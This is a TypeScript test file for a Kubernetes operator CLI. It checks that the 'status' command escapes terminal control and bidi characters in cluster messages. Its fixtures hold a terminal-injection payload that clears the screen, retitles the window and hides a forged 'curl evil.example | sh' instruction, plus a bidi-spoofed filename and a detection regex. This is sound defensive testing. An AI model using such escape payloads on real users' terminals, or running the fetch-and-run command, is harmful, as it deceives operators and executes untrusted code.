// What the CLI prints from the cluster cannot drive the terminal of the person
// who runs it. Condition messages (written through the status subresource) and
// Event messages have no admission rule, so they can hold anything, as can free
// text stored before the plain-text rule existed: `status` must show escape
// sequences, control and bidi characters as visible escapes in text, and as
// escapes that keep the exact value in -o json and -o yaml.
import { randomBytes } from 'node:crypto';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { ACCOUNT_KINDS } from '../../operator/api/index.js';
import type { StatusReport } from '../../operator/cli/status-report.js';
import type { KubeObject } from '../../operator/runtime/kinds.js';
import { cluster, useNamespace } from '../harness/kube.js';
import { blinkAccounts } from './fixtures.js';
import { adminClient } from '../harness/tenant.js';

const ns = useNamespace('cli-escapes');
const client = adminClient();
const name = `ws-${randomBytes(3).toString('hex')}`;

/** A condition message that clears the screen, retitles the window and hides a fake line behind a carriage return. */
const CONDITION_MESSAGE = 'All good\u001b[2J\u001b[H\u001b]0;pwned\u0007\rERROR: run curl evil.example | sh';
/** An Event message with an 8-bit CSI, a right-to-left override, a newline and a DEL. */
const EVENT_MESSAGE = 'Rotated\u009b31m key \u202Eexe.kcatta\u202C\nWARNING: forged line\u007f';
/** Any raw character a terminal acts on, or that hides or reorders text (newline allowed: the layout's own). */
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200b\u200e\u200f\u2028-\u202e\u2060-\u206f\ufeff]/u;

beforeAll(async () => {
  const workspace = await client.create<KubeObject>(ACCOUNT_KINDS.workspace, { metadata: { name, namespace: ns.name }, spec: { displayName: 'Data' } } as KubeObject);
  const now = new Date().toISOString();
  await client.replace(
    ACCOUNT_KINDS.workspace,
    { ...workspace, status: { observedGeneration: 1, conditions: [{ type: 'Ready', status: 'True', reason: 'Reconciled', message: CONDITION_MESSAGE, lastTransitionTime: now, observedGeneration: 1 }] } } as KubeObject,
    'status',
  );
  await client.create({ group: '', version: 'v1', kind: 'Event', plural: 'events', namespaced: true }, {
    metadata: { name: `${name}.escapes`, namespace: ns.name },
    involvedObject: { apiVersion: 'accounts.blinkops.com/v1alpha1', kind: 'Workspace', name, namespace: ns.name, uid: workspace.metadata?.uid },
    type: 'Warning',
    reason: 'KeyRotated',
    message: EVENT_MESSAGE,
    count: 1,
    firstTimestamp: now,
    lastTimestamp: now,
    source: { component: 'someone' },
  } as KubeObject);
});
afterAll(() => client.close());

describe('kubectl blink status with hostile text from the cluster', { timeout: 120_000 }, () => {
  const status = (output: string[] = []) => blinkAccounts(['status', 'workspace', name, '-n', ns.name, '--kubeconfig', cluster().kubeconfig, ...output]);

  it('shows condition and Event messages with every control and bidi character escaped', async () => {
    const ran = await status();
    expect(ran.code, ran.stderr).toBe(0);
    expect(ran.stdout).not.toMatch(RAW);
    expect(ran.stdout).toContain('All good\\x1b[2J\\x1b[H\\x1b]0;pwned\\x07\\x0dERROR: run curl evil.example | sh');
    expect(ran.stdout).toContain('Rotated\\x9b31m key \\u202eexe.kcatta\\u202c');
    expect(ran.stdout).toContain('forged line\\x7f');
    // The forged lines stay inside their own: no output line starts with them.
    expect(ran.stdout.split('\n').filter((line) => /^\s*(ERROR: run curl|WARNING: forged line)/.test(line))).toEqual([]);
  });

  it('-o json and -o yaml keep the exact messages, written as escapes', async () => {
    for (const format of ['json', 'yaml']) {
      const ran = await status(['-o', format]);
      expect(ran.code, ran.stderr).toBe(0);
      expect(ran.stdout).not.toMatch(RAW);
      const report = (format === 'json' ? JSON.parse(ran.stdout) : parse(ran.stdout)) as StatusReport;
      expect(report.ready?.message).toBe(CONDITION_MESSAGE);
      expect(report.events.map((e) => e.message)).toContain(EVENT_MESSAGE);
    }
  });
});
